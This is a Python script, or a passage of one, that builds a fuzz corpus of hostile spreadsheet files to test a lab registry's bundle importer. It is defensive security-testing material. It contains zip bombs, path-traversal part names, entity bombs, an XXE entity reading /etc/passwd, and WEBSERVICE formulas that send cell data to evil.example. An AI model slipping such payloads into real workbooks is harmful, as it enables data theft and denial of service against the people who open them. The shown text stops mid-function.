"""Build the hand-made corpus of hostile files in ``tests/fuzz/corpus`` and its manifest.

Run from the repository root (it rewrites every file and ``manifest.toml``)::

    .venv/bin/python -m tests.fuzz.build_corpus

The files are committed: the suite does not rebuild them, so a change of behaviour shows
as a failing case rather than a silently rebuilt corpus. Each case is a small real file
made from a real bundle or ledger with one hostile change; its expected outcome is
written here, next to the change, and copied into the manifest that the tests read.

Bundles are issued by a fixed corpus issuer (the institute "C" of ``tests/exchange/sites``
with a key derived from a fixed seed, valid until 2099): the receiver in the tests trusts
``corpus/issuer.card``, so that cases refused only after the signature was checked
(duplicate record ids, ...) and the valid cases can be checked too. Huge cases (a million
rows, bombs that expand to hundreds of megabytes, million-character cells) are NOT here:
``test_huge.py`` writes them at test time with streaming zip writes.
"""

from __future__ import annotations

import datetime as dt
import hashlib
import io
import json
import random
import re
import shutil
import subprocess
import sys
import tempfile
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from tests.fuzz import xlsxkit as K

CORPUS = Path(__file__).resolve().parent / "corpus"
MANIFEST = CORPUS / "manifest.toml"
ISSUER_SITE = "C"
ISSUER_SEED = hashlib.sha256(b"labregistry fuzz corpus issuer v1").digest()
ISSUED_AT = dt.datetime(2025, 1, 1, tzinfo=dt.UTC)
EXPIRES_AT = dt.datetime(2099, 12, 31, tzinfo=dt.UTC)
LEDGER_SHEET = "计量标准"
LEDGER_HEADERS = ("序号", "证书编号", "计量标准名称", "计量标准代码", "计量标准类别", "测量范围",
                  "不确定度/准确度等级/最大允许误差", "发证日期", "有效期至", "设备名称", "检定/校准有效期至")
LEDGER_RECORDS = 5


@dataclass
class Case:
    file: str
    kind: str  # bundle | ledger
    expect: str  # an error code, "valid", or "report" (ledger: records refused, placed at cells)
    about: str
    cells: list[str] = field(default_factory=list)  # report: the cells holding an error
    known_bug: str | None = None  # the case fails today for this reason (an xfail in the suite)


# ---------------------------------------------------------------- the corpus issuer


def issuer_key() -> Any:
    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

    from labregistry.crypto.keys import PublicKeyInfo, SigningKey, raw_public_bytes
    from tests.exchange.sites import INSTITUTES

    private = Ed25519PrivateKey.from_private_bytes(ISSUER_SEED)
    info = PublicKeyInfo.of(INSTITUTES[ISSUER_SITE][1], raw_public_bytes(private.public_key()), ISSUED_AT)
    return SigningKey(info=info, private_key=private)


def issuer_card() -> Any:
    from labregistry.crypto.cards import make_card
    from tests.exchange.sites import INSTITUTES

    return make_card(issuer_key(), INSTITUTES[ISSUER_SITE][0])


def base_bundle(tmp: Path) -> bytes:
    """A real bundle of the corpus issuer: one standard with their instruments, services,
    authorisations and staff (the demo generator), signed with the corpus key."""
    from labregistry.exchange import bundle
    from labregistry.services import exchange
    from tests.exchange.sites import make_site

    site = make_site(tmp, ISSUER_SITE, standards=1, seed=3)
    with site.reg.uow() as uow:
        rows = exchange.collect_rows(uow.session.connection(), uow.institutes.own())
    site.reg.close()
    out = tmp / "base.xlsx"
    key = issuer_key()
    bundle.write_bundle(str(out), rows=rows, issuer_uscc=key.uscc, issuer_name=site_name(),
                        signing_key=key, card_bytes=issuer_card().to_bytes(), own_statements=[], seq=1,
                        issued_at=ISSUED_AT, expires_at=EXPIRES_AT)
    return out.read_bytes()


def site_name() -> str:
    from tests.exchange.sites import INSTITUTES

    return INSTITUTES[ISSUER_SITE][0]


def base_ledger(records: int = LEDGER_RECORDS, *, extra: Callable[[Any], None] | None = None) -> bytes:
    """A plain standards ledger: one header row (row 1), ``records`` valid records from row 2."""
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    ws.title = LEDGER_SHEET
    ws.append(list(LEDGER_HEADERS))
    for i in range(records):
        ws.append([i + 1, f"[2023]沪量标证字第{100 + i:04d}号", f"精密压力表标准装置{i + 1}", "12113100", "社会公用计量标准",
                   "(0~60)MPa", "0.05级", dt.date(2023, 5, 31), dt.date(2027, 5, 30), "精密数字压力计",
                   dt.date(2026, 6, 30)])
    if extra is not None:
        extra(wb)
    buf = io.BytesIO()
    wb.save(buf)
    return _fixed_times(buf.getvalue())


def _fixed_times(data: bytes) -> bytes:
    """The same bytes on every build: openpyxl stamps the time into docProps/core.xml."""
    parts = K.parts_of(data)
    if "docProps/core.xml" in parts:
        parts["docProps/core.xml"] = re.sub(rb"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", b"2025-01-01T00:00:00Z",
                                            parts["docProps/core.xml"])
    return K.zip_bytes(parts)


# ---------------------------------------------------------------- small helpers


def edit_part(data: bytes, part: str, fn: Callable[[bytes], bytes]) -> bytes:
    parts = K.parts_of(data)
    parts[part] = fn(parts[part])
    return K.zip_bytes(parts)


def add_parts(data: bytes, extra: dict[str, bytes], *, content_types: str = "", rels: dict[str, str] | None = None
              ) -> bytes:
    parts = K.parts_of(data)
    parts.update(extra)
    if content_types:
        parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(b"</Types>",
                                                                            content_types.encode() + b"</Types>")
    for rels_part, rel in (rels or {}).items():
        if rels_part in parts:
            parts[rels_part] = parts[rels_part].replace(b"</Relationships>", rel.encode() + b"</Relationships>")
        else:
            parts[rels_part] = (f'<Relationships xmlns="{K.PKG_REL_NS}">{rel}</Relationships>').encode()
    return K.zip_bytes(parts)


def sheet_of(data: bytes, sheet: str) -> str:
    return K.sheet_parts(K.parts_of(data))[sheet]


def edit_sheet(data: bytes, sheet: str, fn: Callable[[bytes], bytes]) -> bytes:
    return edit_part(data, sheet_of(data, sheet), fn)


def edit_cell(data: bytes, sheet: str, ref: str, cell: bytes) -> bytes:
    return edit_sheet(data, sheet, lambda xml: K.set_cell(xml, ref, cell))


def every_xml_part(data: bytes, fn: Callable[[bytes], bytes]) -> bytes:
    parts = K.parts_of(data)
    return K.zip_bytes({n: fn(d) if n.endswith((".xml", ".rels")) else d for n, d in parts.items()})


def workbook_xml(data: bytes, fn: Callable[[str], str]) -> bytes:
    return edit_part(data, "xl/workbook.xml", lambda b: fn(b.decode("utf-8")).encode("utf-8"))


def with_defined_names(data: bytes, elements: str) -> bytes:
    """``data`` with ``<definedName>`` ``elements`` added to the workbook (whatever it holds already)."""

    def add(wb: str) -> str:
        if re.search(r"<definedNames\s*/>", wb):
            return re.sub(r"<definedNames\s*/>", "<definedNames>" + elements + "</definedNames>", wb, count=1)
        if "<definedNames>" in wb:
            return wb.replace("<definedNames>", "<definedNames>" + elements, 1)
        return wb.replace("</sheets>", "</sheets><definedNames>" + elements + "</definedNames>", 1)

    return workbook_xml(data, add)


def sheet_element(wb: str, name: str) -> str:
    m = re.search(r'<sheet name="' + re.escape(name) + r'"[^>]*/>', wb)
    assert m, name
    return m.group(0)


def add_sheet(data: bytes, name: str, xml: bytes, *, state: str = "visible", before: str | None = None) -> bytes:
    """A new worksheet part ``name`` (listed before the sheet ``before``, or last)."""
    parts = K.parts_of(data)
    numbers = [int(m) for n in parts for m in re.findall(r"xl/worksheets/sheet([0-9]+)\.xml$", n)]
    number = max(numbers, default=0) + 1
    part = f"xl/worksheets/sheet{number}.xml"
    parts[part] = xml
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"</Types>", f'<Override PartName="/{part}" ContentType="application/vnd.openxmlformats-officedocument.'
        f'spreadsheetml.worksheet+xml"/></Types>'.encode())
    rid = f"rIdFuzz{number}"
    parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(
        b"</Relationships>", f'<Relationship Id="{rid}" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        f'relationships/worksheet" Target="/{part}"/></Relationships>'.encode())
    wb = parts["xl/workbook.xml"].decode("utf-8")
    element = f'<sheet name="{name}" sheetId="{100 + number}" state="{state}" r:id="{rid}"/>'
    if before is not None:
        old = sheet_element(wb, before)
        wb = wb.replace(old, element + old, 1)
    else:
        wb = wb.replace("</sheets>", element + "</sheets>", 1)
    parts["xl/workbook.xml"] = wb.encode("utf-8")
    return K.zip_bytes(parts)


def raw_entries(data: bytes) -> list[tuple[str, bytes, int, int, int, int]]:
    """The entries of ``data`` as they are stored (compressed bytes, CRC, size, method)."""
    out = []
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        for info in zf.infolist():
            start = info.header_offset
            name_len, extra_len = int.from_bytes(data[start + 26:start + 28], "little"), int.from_bytes(
                data[start + 28:start + 30], "little")
            body = start + 30 + name_len + extra_len
            out.append((info.filename, data[body:body + info.compress_size], info.CRC, info.file_size,
                        info.compress_type, info.flag_bits))
    return out


SIMPLE_SHEET = (f'<worksheet xmlns="{K.MAIN_NS}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>x</t>'
                f'</is></c></row></sheetData></worksheet>').encode()
EXTERNAL_LINK = (b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                 b'<externalBook r:id="rId1" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
                 b'relationships"/></externalLink>')
OLE_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


# ---------------------------------------------------------------- bundle cases


def bundle_cases(base: bytes, tmp: Path) -> dict[str, tuple[bytes, Case]]:
    from labregistry.exchange import schema

    cases: dict[str, tuple[bytes, Case]] = {}
    std = schema.STANDARDS.spec.name
    ins = schema.INSTRUMENTS.spec.name
    meta = schema.META_SHEET
    cover = "封面 Cover"
    key = issuer_key()
    parts = K.parts_of(base)
    std_part = sheet_of(base, std)

    def case(name: str, data: bytes, expect: str, about: str, **kw: Any) -> None:
        assert name == "valid" or data != base, f"the change of {name} did not change the file"
        file = f"bundle/{name}.xlsx"
        cases[file] = (data, Case(file, "bundle", expect, about, **kw))

    # -- valid files and changes that keep every value
    case("valid", base, "valid", "the corpus issuer's bundle as written")
    import openpyxl

    wb = openpyxl.load_workbook(io.BytesIO(base))
    buf = io.BytesIO()
    wb.save(buf)
    case("valid-openpyxl-resaved", _fixed_times(buf.getvalue()), "valid", "opened and saved by openpyxl")
    lo = libreoffice_resave(base, tmp, "bundle.xlsx")
    if lo is not None:
        case("valid-libreoffice-resaved", lo, "valid",
             "opened and saved by LibreOffice: shared strings, rich-text runs, its own parts")
    case("valid-utf8-bom-in-every-part", every_xml_part(base, lambda b: b"\xef\xbb\xbf" + b), "valid",
         "a UTF-8 byte order mark at the start of every XML part")
    case("valid-stored-and-reordered",
         K.craft_zip([K.stored(n, d) if n.startswith("xl/worksheets/") else K.deflated(n, d)
                      for n, d in reversed(parts.items())]),
         "valid", "the worksheets stored uncompressed, all entries in reverse order")
    case("valid-zip-comment", K.craft_zip(raw_entries(base), comment=b"scanned by the mail gateway"), "valid",
         "a zip comment after the end of the central directory")
    case("valid-xml-declaration-and-comments",
         edit_part(base, std_part, lambda b: b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<!-- x -->'
                   + b.replace(b"</row>", b"</row>\n  ")), "valid",
         "an XML declaration, a comment and whitespace between rows of a data sheet")
    case("valid-numbers-respelled",
         edit_sheet(base, std, lambda b: re.sub(rb"<v>([0-9]+)</v>", rb"<v>\1.0E0</v>", b)), "valid",
         "integers written as 45191.0E0: the same numbers")

    # -- not a zip, broken zips
    case("empty", b"", "xlsx.empty", "a file of 0 bytes")
    case("truncated-half", base[: len(base) // 2], "xlsx.corrupt", "the first half of a bundle")
    case("truncated-last-byte", base[:-1], "xlsx.corrupt", "a bundle without its last byte")
    entries = raw_entries(base)
    flipped = [list(e) for e in entries]
    i = next(j for j, e in enumerate(entries) if e[0] == std_part)
    body = bytearray(flipped[i][1])
    body[len(body) // 2] ^= 0x55
    flipped[i][1] = bytes(body)
    case("corrupt-entry", K.craft_zip([tuple(e) for e in flipped]), "xlsx.corrupt",  # type: ignore[misc]
         "one byte of a data sheet's compressed stream changed")
    case("not-a-zip-csv", "证书编号,名称\n[2023]沪量标证字第0123号,压力\n".encode(), "xlsx.not_zip",
         "a CSV file named .xlsx")
    case("old-xls-ole", OLE_MAGIC + bytes(2000), "xlsx.old_format",
         "an OLE compound file: an old .xls or a password-protected workbook")
    case("junk-before-zip", b"MZ" + bytes(510) + base, "xlsx.not_zip",
         "an executable stub before the zip (a self-extracting archive)")
    no_wb = dict(parts)
    del no_wb["xl/workbook.xml"]
    case("no-workbook-part", K.zip_bytes(no_wb), "xlsx.not_workbook", "xl/workbook.xml missing")
    case("duplicate-zip-entry", K.zip_bytes([*parts.items(), (std_part, K.set_cell(
        parts[std_part], "C2", K.inline_cell("C2", "篡改 tampered")))]), "xlsx.corrupt",
        "a data sheet twice in the zip, the second copy with another value")
    case("duplicate-zip-entry-other-case", K.zip_bytes([*parts.items(), (std_part.upper(), parts[std_part])]),
         "xlsx.corrupt", "the same part name twice, differing in case")
    enc = [list(e) for e in entries]
    enc[i][5] |= 0x1
    case("encrypted-entry-flag", K.craft_zip([tuple(e) for e in enc]), "xlsx.encrypted",  # type: ignore[misc]
         "a data sheet marked as encrypted")
    bz = [list(e) for e in entries]
    bz[i][4] = 12
    case("bzip2-compression", K.craft_zip([tuple(e) for e in bz]), "xlsx.corrupt",  # type: ignore[misc]
         "a data sheet 'compressed with bzip2' (method 12)")
    bomb, crc = K.zero_bomb(2 * K.MiB)
    case("zip-bomb-ratio", K.craft_zip([*[e for e in entries if e[0] != std_part],
                                        (std_part, bomb, crc, 2 * K.MiB, 8, 0x800)]), "xlsx.compression_ratio",
         "a data sheet of 2 MiB of zeros compressed 1,000 times (bigger bombs: test_huge.py)")
    small, crc = K.zero_bomb(2 * K.MiB)
    case("lying-declared-size", K.craft_zip([*[e for e in entries if e[0] != std_part],
                                             (std_part, small, crc, 100, 8, 0x800)]), "xlsx.corrupt",
         "a data sheet that declares 100 bytes and inflates to 2 MiB")
    for label, name in (("dotdot", "xl/../evil.xml"), ("backslash", "xl\\worksheets\\sheet99.xml"),
                        ("absolute", "/xl/evil.xml")):
        case(f"bad-part-name-{label}", K.craft_zip([*entries, K.deflated(name, SIMPLE_SHEET)]), "xlsx.bad_part_name",
             f"a part named {name!r}")

    # -- parts that must never be in a bundle
    case("macro-vbaproject", add_parts(base, {"xl/vbaProject.bin": b"\0" * 64}), "xlsx.macros", "xl/vbaProject.bin")
    case("macro-content-type",
         edit_part(base, "[Content_Types].xml", lambda b: b.replace(
             b"spreadsheetml.sheet.main+xml", b"ms-excel.sheet.macroEnabled.main+xml")), "xlsx.macros",
         "the workbook declared as macro-enabled in [Content_Types].xml")
    case("external-link-part",
         add_parts(base, {"xl/externalLinks/externalLink1.xml": EXTERNAL_LINK},
                   content_types='<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/'
                   'vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/>'),
         "xlsx.external_link", "a link to another workbook (xl/externalLinks/externalLink1.xml)")
    case("external-link-content-type-only",
         edit_part(base, "[Content_Types].xml", lambda b: b.replace(b"</Types>", b'<Default Extension="bin" '
                   b'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/>'
                   b"</Types>")),
         "xlsx.external_link", "[Content_Types].xml declares external links for .bin parts")
    case("external-target-relationship",
         add_parts(base, {}, rels={"xl/_rels/workbook.xml.rels": '<Relationship Id="rIdX" Type="http://schemas.'
                   'openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" '
                   'Target="file:///\\\\evil\\share\\book.xlsx" TargetMode="External"/>'}),
         "xlsx.external_target", "a workbook relationship to a file on another machine")
    case("hyperlink-in-bundle",
         add_parts(base, {}, rels={f"xl/worksheets/_rels/{std_part.rsplit('/', 1)[1]}.rels":
                                   f'<Relationship Id="rIdH" Type="{_HYPERLINK}" Target="http://evil.example/" '
                                   'TargetMode="External"/>'}),
         "xlsx.external_target", "a cell hyperlink (allowed in ledgers, not in bundles)")
    case("embedded-ole-object", add_parts(base, {"xl/embeddings/oleObject1.bin": OLE_MAGIC + bytes(512)}),
         "xlsx.embedded_object", "an embedded OLE object")
    case("activex-control", add_parts(base, {"xl/activeX/activeX1.xml": b"<ax/>"}), "xlsx.embedded_object",
         "an ActiveX control")
    case("data-connection", add_parts(base, {"xl/connections.xml": b"<connections/>"}), "xlsx.data_connection",
         "an external data connection")
    case("unknown-part-image", add_parts(base, {"xl/media/image1.png": b"\x89PNG\r\n\x1a\n" + bytes(64)}),
         "xlsx.unknown_part", "a picture (allowed in ledgers, not in bundles)")
    case("relationship-to-missing-kind",
         add_parts(base, {}, rels={"xl/_rels/workbook.xml.rels": '<Relationship Id="rIdZ" Type="http://schemas.'
                   'openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="../_rels/.rels"/>'}),
         "xlsx.bad_relationship", "a relationship that points at a relationships part")
    sheet_name = std_part.rsplit("/", 1)[1]
    case("dtd-in-bin-part-read-as-sheet",
         edit_part(add_parts(base, {"xl/printerSettings/printerSettings1.bin": K.with_doctype(parts[std_part])}),
                   "xl/_rels/workbook.xml.rels",
                   lambda b: b.replace(f"worksheets/{sheet_name}".encode(), b"printerSettings/printerSettings1.bin")),
         "bundle.unreadable",
         "a data sheet with a DOCTYPE stored as a .bin part (not scanned for DTDs by the pre-flight) and "
         "made the sheet's target: defusedxml under openpyxl refuses it")
    case("wrong-content-type-for-sheet",
         edit_part(base, "[Content_Types].xml", lambda b: re.sub(
             rb'(PartName="/' + std_part.encode() + rb'" ContentType=")[^"]*"', rb'\1text/plain"', b)),
         "valid", "a data sheet declared text/plain: sheets are found through relationships, values unchanged")
    case("content-types-without-workbook",
         edit_part(base, "[Content_Types].xml", lambda b: re.sub(
             rb'<Override PartName="/xl/workbook.xml"[^>]*/>', b"", b)),
         "bundle.unreadable", "[Content_Types].xml does not declare the workbook part")

    # -- XML: DTDs and entities in any part, encodings
    for label, part in (("sheet", std_part), ("workbook", "xl/workbook.xml"), ("styles", "xl/styles.xml"),
                        ("content-types", "[Content_Types].xml"), ("root-rels", "_rels/.rels"),
                        ("workbook-rels", "xl/_rels/workbook.xml.rels"), ("core-properties", "docProps/core.xml"),
                        ("theme", "xl/theme/theme1.xml")):
        if part not in parts:
            continue
        case(f"billion-laughs-in-{label}", edit_part(base, part, lambda b: K.use_entity(K.with_doctype(b))),
             "xlsx.dtd", f"an XML entity bomb (billion laughs) in {part}")
    case("billion-laughs-in-shared-strings",
         add_parts(base, {"xl/sharedStrings.xml": K.with_doctype(
             f'<sst xmlns="{K.MAIN_NS}" count="1" uniqueCount="1"><si><t>&lol9;</t></si></sst>'.encode())},
             content_types='<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-'
                           'officedocument.spreadsheetml.sharedStrings+xml"/>'),
         "xlsx.dtd", "an XML entity bomb in the shared strings")
    case("xxe-external-entity", edit_part(base, std_part, lambda b: K.use_entity(K.with_doctype(b, K.XXE), b"&xxe;")),
         "xlsx.dtd", "an external entity reading /etc/passwd into a cell")
    case("utf16-sheet-with-bom", edit_part(base, std_part, lambda b: K.xml_declared(b, "UTF-16")), "xlsx.corrupt",
         "a data sheet in UTF-16 with a byte order mark")
    case("utf16-sheet-without-bom",
         edit_part(base, std_part, lambda b: K.xml_declared(b, "UTF-16-LE").removeprefix(b"\xff\xfe")),
         "xlsx.corrupt", "a data sheet in UTF-16LE without a byte order mark")
    # a bundle is UTF-8 only (docs/bundle-format.md): any other declared encoding is refused
    case("utf16-declared-utf8-bytes",
         edit_part(base, std_part, lambda b: b'<?xml version="1.0" encoding="UTF-16"?>' + b),
         "xlsx.not_utf8", "UTF-16 declared, UTF-8 bytes")
    case("unknown-encoding-declared",
         edit_part(base, std_part, lambda b: b'<?xml version="1.0" encoding="x-klingon"?>' + b),
         "xlsx.not_utf8", "an encoding nobody knows")
    case("gb18030-sheet", edit_part(base, std_part, lambda b: K.xml_declared(b, "GB18030")), "xlsx.not_utf8",
         "a data sheet in GB18030 (expat reads only UTF-8/16, ISO-8859-1 and ASCII)")
    case("ebcdic-hidden-doctype",
         edit_part(base, std_part, lambda b: K.xml_declared(K.use_entity(K.with_doctype(b)), "cp037")),
         "xlsx.not_utf8", "a DOCTYPE hidden from the byte scan by an EBCDIC encoding (declared in ASCII)")
    case("latin1-declared-sheet", edit_part(base, std_part, lambda b: K.xml_declared(b, "ISO-8859-1")),
         "xlsx.not_utf8", "a data sheet re-encoded as ISO-8859-1 (Chinese as character references): the same "
         "values, which expat reads, but not UTF-8")
    case("broken-xml-in-sheet", edit_part(base, std_part, lambda b: b[: len(b) // 2]), "bundle.unreadable",
         "a data sheet cut in the middle of its XML")

    # -- workbook content
    case("formula-in-data-cell", edit_cell(base, std, "C2", K.formula_cell("C2", 'HYPERLINK("http://evil.example","x")',
                                                                           "x")),
         "bundle.formula", "a formula (with its cached value) in a data cell")
    case("formula-in-cover", edit_cell(base, cover, "B3", K.formula_cell("B3", "1+1", "2")), "bundle.formula",
         "a formula on the (unsigned) cover sheet")
    case("formula-in-signature-sheet", edit_cell(base, meta, "C2", K.formula_cell("C2", "A1")), "bundle.formula",
         "a formula on the signature sheet")
    case("shared-formula", edit_cell(base, std, "C3", b'<c r="C3"><f t="shared" ref="C3:C4" si="0">A1</f></c>'),
         "bundle.formula", "a shared formula without a cached value")
    case("array-formula", edit_cell(base, std, "C2", b'<c r="C2"><f t="array" ref="C2">SUM(A1:A2)</f><v>0</v></c>'),
         "bundle.formula", "an array formula")
    case("defined-name-external",
         with_defined_names(base, '<definedName name="evil">[1]Sheet1!$A$1</definedName>'),
         "bundle.defined_name", "a defined name referring to another workbook")
    case("defined-name-print-area-with-function",
         with_defined_names(base, '<definedName name="_xlnm.Print_Area" localSheetId="2">INDIRECT("A1")'
                                  "</definedName>"),
         "bundle.defined_name", "a print area that is a function call")
    case("defined-name-unknown-sheet-scope",
         with_defined_names(base, '<definedName name="evil" localSheetId="99">WEBSERVICE("http://evil.example/")'
                                  "</definedName>"),
         "bundle.defined_name", "a name scoped to a sheet that does not exist (openpyxl drops it with a warning)")
    case("defined-name-global-print-titles-with-link",
         with_defined_names(base, '<definedName name="_xlnm.Print_Titles">[1]Sheet1!$1:$1</definedName>'),
         "bundle.defined_name", "workbook-wide print titles pointing into another workbook")
    case("defined-name-repeated",
         with_defined_names(base, '<definedName name="_xlnm.Print_Area" localSheetId="2">WEBSERVICE('
                                  '"http://evil.example/")</definedName><definedName name="_xlnm.Print_Area" '
                                  "localSheetId=\"2\">'计量标准 Standards'!$A$1:$B$2</definedName>"),
         "bundle.defined_name", "the same print area defined twice, the first a function call")
    case("conditional-format-formula",
         edit_sheet(base, std, lambda b: b.replace(b"</sheetData>", b'</sheetData><conditionalFormatting sqref="C2">'
                                                   b'<cfRule type="expression" priority="1"><formula>WEBSERVICE('
                                                   b'"http://evil.example/?"&amp;B2)</formula></cfRule>'
                                                   b"</conditionalFormatting>")),
         "xlsx.conditional_format",
         "a conditional format whose formula sends a cell to a web server when Excel shows the sheet; not in "
         "any cell, so the digests and the signature still hold (anyone on the way can add it)")
    case("conditional-format-x14-extension",
         edit_sheet(base, std, lambda b: b.replace(b"</worksheet>", b'<extLst><ext uri="{78C0D931-6437-407d-A8EE-'
                                                   b'F0AAD7539E65}" xmlns:x14="http://schemas.microsoft.com/office/'
                                                   b'spreadsheetml/2009/9/main"><x14:conditionalFormattings>'
                                                   b'<x14:conditionalFormatting xmlns:xm="http://schemas.microsoft.'
                                                   b'com/office/excel/2006/main"><x14:cfRule type="expression" '
                                                   b'priority="1" id="{00000000-0000-0000-0000-000000000001}">'
                                                   b'<xm:f>WEBSERVICE("http://evil.example/")</xm:f></x14:cfRule>'
                                                   b"<xm:sqref>C2</xm:sqref></x14:conditionalFormatting>"
                                                   b"</x14:conditionalFormattings></ext></extLst></worksheet>")),
         "xlsx.conditional_format", "the same conditional format as Excel 2010 writes it, in the sheet's extLst")
    case("data-validation-formula",
         edit_sheet(base, std, lambda b: b.replace(b"</sheetData>", b'</sheetData><dataValidations count="1">'
                                                   b'<dataValidation type="custom" allowBlank="1" sqref="C2">'
                                                   b'<formula1>ISNUMBER(WEBSERVICE("http://evil.example/?"&amp;B2))'
                                                   b"</formula1></dataValidation></dataValidations>")),
         "xlsx.data_validation", "a data validation whose formula Excel runs, outside every cell")
    case("hidden-data-sheet", K.zip_bytes(K.set_sheet_state(parts, std, "hidden")), "bundle.hidden_sheet",
         "the standards sheet hidden")
    case("very-hidden-cover", K.zip_bytes(K.set_sheet_state(parts, cover, "veryHidden")), "bundle.hidden_sheet",
         "the cover very hidden (only VBA can show it)")
    case("extra-visible-sheet", add_sheet(base, "备注 Notes", SIMPLE_SHEET), "bundle.unknown_sheet",
         "an extra sheet")
    case("extra-hidden-sheet", add_sheet(base, "Sheet9", SIMPLE_SHEET, state="hidden"), "bundle.hidden_sheet",
         "an extra hidden sheet")
    case("missing-data-sheet", workbook_xml(base, lambda wb: wb.replace(sheet_element(wb, ins), "")),
         "bundle.missing_sheet", "the instruments sheet removed from the workbook")
    tampered = K.set_cell(parts[std_part], "C2", K.inline_cell("C2", "篡改 tampered"))
    case("duplicate-sheet-name-tampered-first", add_sheet(base, std, tampered, before=std), "bundle.duplicate_sheet",
         "the standards sheet listed twice: first with an edited value (what Excel shows), then the signed one")
    case("duplicate-sheet-name-tampered-last", add_sheet(base, std, tampered), "bundle.duplicate_sheet",
         "the standards sheet listed twice, the second copy edited")
    case("duplicate-sheet-entry-same-part",
         workbook_xml(base, lambda wb: wb.replace(sheet_element(wb, std), sheet_element(wb, std) * 2)),
         "bundle.duplicate_sheet", "one <sheet> element written twice")
    case("tampered-value", edit_cell(base, std, "C2", K.inline_cell("C2", "篡改 tampered")), "bundle.tampered_sheet",
         "one data cell edited")
    case("boolean-cell", edit_cell(base, std, "C2", K.typed_cell("C2", "b", "1")), "bundle.bad_cell",
         "a boolean in a data cell")
    case("error-cell", edit_cell(base, std, "C2", K.typed_cell("C2", "e", "#N/A")), "bundle.bad_cell",
         "an error value in a data cell")
    case("infinite-number", edit_cell(base, std, "L2", K.number_cell("L2", "1e999")), "bundle.bad_cell",
         "a number that overflows to infinity")
    case("text-in-date-column", edit_cell(base, std, "H2", K.inline_cell("H2", "2023-05-31")), "bundle.wrong_type",
         "a date typed as text")
    case("number-in-text-column", edit_cell(base, std, "C2", K.number_cell("C2", "42")), "bundle.wrong_type",
         "a number in a text column")
    case("cell-too-long", edit_cell(base, std, "Y2", K.inline_cell("Y2", "备注" * 16_400)), "bundle.cell_too_long",
         "a 32,800-character cell (Excel holds 32,767)")
    first = re.search(rb'<c r="A2"[^>]*>.*?</c>', parts[std_part], re.DOTALL)
    assert first
    case("extra-cell-out-of-order",
         edit_part(base, std_part, lambda b: b[: first.end()] + K.inline_cell("AZ2", "证书已吊销，请致电 000 REVOKED")
                   + b[first.end():]),
         "bundle.cell_order",
         "a note in AZ2 written before B2 (cells out of order): LibreOffice shows it, openpyxl's reader drops it")
    case("cell-naming-another-row",
         edit_part(base, std_part, lambda b: re.sub(rb'<c r="C2"', b'<c r="C9"', b, count=1)), "bundle.cell_order",
         "the standard's name written inside row 2 as C9: LibreOffice shows it in row 9, openpyxl reads it in "
         "row 2 (the signed place)")
    case("row-written-twice",
         edit_part(base, std_part, lambda b: b.replace(b"</sheetData>", re.search(
             rb'<row r="2".*?</row>', b, re.DOTALL).group(0).replace(  # type: ignore[union-attr]
             b"<is><t>", "<is><t>篡改 ".encode(), 1) + b"</sheetData>")), "bundle.row_order",
         "row 2 written a second time at the end, edited: openpyxl's reader skips it, LibreOffice shows it")
    case("value-outside-columns", edit_cell(base, std, "AZ2", K.inline_cell("AZ2", "note")), "bundle.extra_cell",
         "a note typed far right of the sheet's columns")
    case("changed-header", edit_cell(base, std, "C1", K.inline_cell("C1", "名称 Name")), "bundle.bad_header",
         "a renamed column header")
    case("meta-duplicate-key", edit_cell(base, meta, "A3", K.inline_cell("A3", "format")), "bundle.bad_meta",
         "the signature sheet holding the key 'format' twice")
    nested = "[" * 30_000  # within one cell (32,767), far beyond the parser's recursion limit
    case("nested-json-manifest", K.replace_meta(base, {"manifest": nested}), "bundle.malformed_manifest",
         "a manifest of 30,000 nested JSON arrays (no signature needed to get this far)")
    case("nested-json-statements", K.replace_meta(base, {"statements": nested}), "bundle.malformed_manifest",
         "key statements of 30,000 nested JSON arrays")

    # -- signed by the issuer (a legitimate but hostile or careless issuer)
    def signed(data: bytes) -> bytes:
        return K.resign(data, key)

    uid1 = _cell_text(parts[std_part], "A2")
    case("signed-duplicate-record-id", signed(edit_cell(base, std, "A3", K.inline_cell("A3", uid1))),
         "bundle.duplicate_uid", "two standards with the same record id, signed")
    ins_part = sheet_of(base, ins)
    case("signed-dangling-child", signed(edit_part(base, ins_part, lambda b: K.set_cell(
        b, "A2", K.inline_cell("A2", "f" * 32)))), "bundle.bad_link",
        "an instrument of a standard that is not in the bundle, signed")
    inst_part = sheet_of(base, schema.INSTITUTE.spec.name)
    def second_institute_row(xml: bytes) -> bytes:
        row = re.search(rb'<row r="2".*?</row>', xml, re.DOTALL).group(0)  # type: ignore[union-attr]
        row = re.sub(rb'r="([A-Z]*)2"', rb'r="\g<1>3"', row)
        return xml.replace(b"</sheetData>", row + b"</sheetData>")

    case("signed-two-institute-rows", signed(edit_part(base, inst_part, second_institute_row)),
         "bundle.institute_rows", "the institute sheet with two rows, signed")
    position = schema.INSTRUMENTS.keys.index("position") + 1
    ref = f"{K.column_letter(position)}2"
    case("signed-integer-beyond-int64", signed(edit_part(base, ins_part, lambda b: K.set_cell(
        b, ref, K.number_cell(ref, str(10**20))))), "bundle.bad_value",
        "an instrument position of 10^20, signed: the database cannot store it (SQLite holds 64 bits, "
        "PostgreSQL's INTEGER 32)")
    status = schema.STANDARDS.keys.index("status") + 1
    status_ref = f"{K.column_letter(status)}2"
